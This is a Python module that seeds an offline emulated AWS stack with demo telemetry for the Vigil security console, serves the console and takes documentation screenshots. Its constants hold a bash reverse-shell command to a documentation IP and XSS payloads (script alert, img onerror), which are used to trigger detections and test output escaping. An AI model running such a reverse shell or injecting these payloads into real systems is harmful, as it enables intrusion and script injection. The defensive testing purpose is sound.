"""`make console`: the offline stack with the demo's data, and `vigil console` serving it.

Starts the offline stack (``ResponseDryRun=false``, as ``make demo``), fills it the way the demo
does (``seed``), serves the console on loopback and prints its URL with the token, until Ctrl-C:

- one sample finding per type (``vigil findings sample``), stored and published first;
- the recorded agent batches of ``make demo`` (benign, reverse shell, crypto DNS, malformed) through
  Kinesis, signed as their agents would; the reverse-shell instance is launched in emulated EC2 and
  tagged ``vigil:response-mode=approve``, so its Triage waits on the Response page for an approval;
- heartbeats of a healthy and of a stale instance, and one coverage evaluation (Coverage, Usage);
- with ``hostile=True`` (the browser tests): a reverse shell whose command line carries
  ``<script>`` and ``<img onerror>``, on an instance whose Name tag is markup.

    python -m local.console_demo [--port N] [--console-port 8765] [--screenshots DIR]

``--screenshots DIR`` takes the pictures of docs/console.md (headless Chromium, ``local.browser``)
and exits instead of serving.
"""

from __future__ import annotations

import argparse
import gzip
import json
import os
import re
import signal
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from local.demo import DEFAULT_PORT, EXPECTED, Sent, _any_port, _free, findings, load_batches, send
from local.stack import LocalStack, started

CONSOLE_PORT = 8765
APPROVE_TAG = {"Key": "vigil:response-mode", "Value": "approve"}
# the recorded reverse shell's command, and what the hostile copy appends to it
SHELL_CMD = b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
MARKUP_TAG = "<img src=x onerror=alert(3)>"
HOSTILE_TYPE = "Execution:Runtime/SuspiciousCommand"  # its runtime context shows the command line


@dataclass
class DemoData:
    victim: str  # the web server of the reverse shell (tagged vigil:response-mode=approve)
    triage: str  # its Triage execution, waiting for an approval
    findings: dict[str, str]  # finding type -> id (the recorded batches' findings)
    hostile: str = ""  # the finding whose command line is markup (hostile=True)
    hostile_instance: str = ""
    samples: int = 0
    coverage: dict[str, str] = field(default_factory=dict)  # instance -> status
    seconds: float = 0.0


def target_of(stack: LocalStack) -> Any:
    from vigil_cli.stack import Target

    assert stack.info is not None
    return Target(stack.region, stack.endpoint_url, dict(stack.info.outputs), offline=True)


def hostile_batch(reverse_shell: bytes, instance_id: str) -> bytes:
    """The recorded reverse shell re-addressed to ``instance_id``, its command line carrying markup
    (the same detection fires: the shell and its socket are unchanged)."""
    import gzip

    from local.scenarios.response import with_instance_id

    text = gzip.decompress(with_instance_id(reverse_shell, instance_id))
    assert SHELL_CMD in text, "the recorded reverse shell changed: update SHELL_CMD"
    text = text.replace(SHELL_CMD, SHELL_CMD + b" # " + MARKUP.encode())
    return gzip.compress(text, mtime=0)


_TIMES = re.compile(rb'"(time|created_time)":(\d{19})\b')


def retimed(batches: list[Sent], now_ns: int) -> list[Sent]:
    """The recorded batches moved in time so that their last event is a minute before ``now_ns``
    (the console's charts and timelines show recent days); every other byte stays as recorded."""
    raw = [gzip.decompress(b.data) if b.data[:2] == b"\x1f\x8b" else b.data for b in batches]
    newest = max((int(m.group(2)) for text in raw for m in _TIMES.finditer(text)), default=now_ns)
    shift = now_ns - 60_000_000_000 - newest

    def move(m: re.Match[bytes]) -> bytes:
        return b'"%s":%d' % (m.group(1), int(m.group(2)) + shift)

    out = []
    for b, text in zip(batches, raw, strict=True):
        moved = _TIMES.sub(move, text)
        out.append(
            Sent(b.name, b.instance, gzip.compress(moved, mtime=0) if b.data[:2] == b"\x1f\x8b" else moved)
        )
    return out


def _wait(what: str, cond: Callable[[], Any], timeout: float, every: float = 0.1) -> Any:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        got = cond()
        if got:
            return got
        time.sleep(every)
    raise TimeoutError(f"{what}: not within {timeout:.0f} s")


def seed(
    stack: LocalStack,
    *,
    hostile: bool = False,
    samples: bool = True,
    say: Callable[[str], None] = lambda s: None,
) -> DemoData:
    """Fill the running offline stack with the demo's data (see the module docstring)."""
    import boto3

    from local.scenarios.coverage import LINUX_AMI, heartbeat_batch
    from local.scenarios.response import launch_demo_instance, with_instance_id
    from vigil_aws.response import pending_task_token

    assert stack.info is not None and stack.pollers is not None and stack.schedules is not None
    t0 = time.perf_counter()
    out = stack.info.outputs
    ec2 = stack.client("ec2")
    n_samples = 0
    if samples:  # first: the recorded findings come after them (newest in the tables)
        from vigil_cli.samples import generate

        say("storing one sample finding per type (vigil findings sample)")
        n_samples = len(generate(target_of(stack)).written)

    say("launching the demo instances in emulated EC2")
    session = boto3.Session(region_name=stack.region)
    victim = launch_demo_instance(session, stack.endpoint_url)
    ec2.create_tags(Resources=[victim], Tags=[APPROVE_TAG])
    recorded = retimed(load_batches(), time.time_ns())
    shell_ids = {b.instance for b in recorded if b.name.startswith("reverse_shell")}
    batches = [
        Sent(b.name, victim, with_instance_id(b.data, victim)) if b.instance in shell_ids else b
        for b in recorded
    ]
    hostile_instance = ""
    if hostile:
        hostile_instance = ec2.run_instances(
            ImageId=LINUX_AMI,
            MinCount=1,
            MaxCount=1,
            InstanceType="t3.micro",
            TagSpecifications=[
                {
                    "ResourceType": "instance",
                    "Tags": [
                        {"Key": "Name", "Value": MARKUP_TAG},
                        {"Key": "vigil:response-mode", "Value": "notify"},
                    ],
                }
            ],
        )["Instances"][0]["InstanceId"]
        shell = next(b for b in recorded if b.name.startswith("reverse_shell"))
        batches.append(
            Sent("hostile_reverse_shell", hostile_instance, hostile_batch(shell.data, hostile_instance))
        )
    healthy, stale = (
        i["InstanceId"]
        for i in ec2.run_instances(ImageId=LINUX_AMI, MinCount=2, MaxCount=2, InstanceType="t3.small")[
            "Instances"
        ]
    )
    now = time.time()
    heartbeats = [
        Sent("heartbeat", healthy, heartbeat_batch(healthy, now - 5, 1, "web-2")),
        Sent("heartbeat", stale, heartbeat_batch(stale, now - 3600, 1, "web-3")),
    ]

    say("sending the recorded agent batches through Kinesis")
    send(stack, out["TelemetryStreamName"], batches + heartbeats)
    table = out["FindingsTableName"]

    def recorded_findings() -> dict[str, str] | None:
        docs = [f for f in findings(stack, table) if not str(f.get("title", "")).startswith("[SAMPLE]")]
        got = {f["type"]: f["id"] for f in docs if f.get("instanceId") != hostile_instance}
        if not set(EXPECTED) <= set(got):
            return None
        if hostile and not any(
            f.get("instanceId") == hostile_instance and f["type"] == HOSTILE_TYPE for f in docs
        ):
            return None
        return got

    found = _wait("the demo's findings", recorded_findings, 60)
    hostile_id = ""
    if hostile:
        # the finding that carries the command line (runtime context): SuspiciousCommand's
        hostile_id = next(
            f["id"]
            for f in findings(stack, table)
            if f.get("instanceId") == hostile_instance and f["type"] == HOSTILE_TYPE
        )
    stack.pollers.wait_idle(timeout=30)

    say("evaluating coverage (CoverageFunction)")
    inv = stack.schedules.run_now("CoverageFunction")
    if inv.errored:
        raise RuntimeError(f"CoverageFunction failed: {inv.result}")
    from vigil_aws.coverage_eval import coverage_rows, stored

    cov = {
        c.instance_id: c.status
        for c in (stored(i) for i in coverage_rows(stack.client("dynamodb"), out["CoverageTableName"]))
        if c
    }

    say("waiting for the reverse shell's Triage to ask for an approval")
    sfn = stack.client("stepfunctions")

    def pending() -> str | None:
        for e in sfn.list_executions(stateMachineArn=out["TriageStateMachineArn"])["executions"]:
            if e["status"] != "RUNNING":
                continue
            detail = json.loads(
                sfn.describe_execution(executionArn=e["executionArn"]).get("input") or "{}"
            ).get("detail", {})
            inst = ((detail.get("resource") or {}).get("instanceDetails") or {}).get("instanceId")
            if inst == victim and pending_task_token(sfn, e["executionArn"]):
                return str(e["executionArn"])
        return None

    triage = _wait("an isolation awaiting approval", pending, 60, every=0.25)
    return DemoData(
        victim, triage, found, hostile_id, hostile_instance, n_samples, cov, time.perf_counter() - t0
    )


def serve_console(stack: LocalStack, port: int, token: str | None = None) -> tuple[Any, str]:
    """The console (vigil_console) on 127.0.0.1:``port`` (0: any) in a thread; returns the server
    and the URL with the token, as `vigil console` prints it."""
    from vigil_console.app import App
    from vigil_console.backend import Backend
    from vigil_console.security import Guard
    from vigil_console.server import ConsoleServer, start_in_thread

    server = ConsoleServer("127.0.0.1", port)
    guard = Guard(server.port, token=token) if token else Guard(server.port)
    server.app = App(Backend(target_of(stack)), guard, stack_label="offline stack (make console)")
    start_in_thread(server)
    return server, f"http://127.0.0.1:{server.port}/?token={guard.token}"


def main(argv: list[str] | None = None) -> int:
    from rich.console import Console

    from local.stack import STATE_FILE

    parser = argparse.ArgumentParser(prog="python -m local.console_demo", description=__doc__.split("\n")[0])
    parser.add_argument(
        "--port", type=int, default=0, help=f"moto port (default {DEFAULT_PORT}, or any free one)"
    )
    parser.add_argument(
        "--console-port",
        type=int,
        default=CONSOLE_PORT,
        help=f"console port (default {CONSOLE_PORT}, or any free one)",
    )
    parser.add_argument("--screenshots", metavar="DIR", help="take the docs' screenshots into DIR, then exit")
    args = parser.parse_args(argv)
    port = args.port or (DEFAULT_PORT if _free(DEFAULT_PORT) else _any_port())
    cport = args.console_port if args.console_port and _free(args.console_port) else 0
    # rich writes progress to stderr; the URL goes to stdout alone on its line (scripts read it)
    err = Console(stderr=True)
    state = None if args.screenshots else STATE_FILE  # `vigil ...` in another terminal finds the stack
    try:
        with started(err, port=port, state_file=state, parameters={"ResponseDryRun": "false"}) as stack:
            with err.status("filling the stack with the demo's data") as status:
                data = seed(stack, say=lambda s: status.update(f"[bold]{s}[/]"))
            err.print(
                f"[green]demo data[/] in {data.seconds:.1f} s: {data.samples} sample findings, "
                f"{len(data.findings)} findings from the recorded batches, {len(data.coverage)} instances in coverage, "
                f"1 isolation of {data.victim} awaiting approval (Response page)",
                highlight=False,
            )
            server, url = serve_console(stack, cport, os.environ.get("VIGIL_CONSOLE_TOKEN") or None)
            try:
                if args.screenshots:
                    from local.browser import chromium_path
                    from local.screenshots import take

                    if chromium_path() is None:
                        err.print("[red]error:[/] chromium is not installed (apt-get install -y chromium)")
                        return 1
                    for path in take(url, data, Path(args.screenshots)):
                        err.print(f"  wrote {path}")
                    return 0
                err.print("Vigil console on the offline stack; Ctrl-C stops both.", highlight=False)
                print(url, flush=True)
                stop = threading.Event()
                for sig in (signal.SIGTERM, signal.SIGINT):  # SIGINT too: a shell may start us ignoring it
                    signal.signal(sig, lambda *_: stop.set())
                try:
                    while not stop.wait(1.0):
                        stack.pollers.check()
                except KeyboardInterrupt:
                    pass
                err.print("stopping")
            finally:
                server.shutdown()
                server.server_close()
    except (RuntimeError, TimeoutError) as exc:
        err.print(f"[red]error:[/] {exc}", highlight=False)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
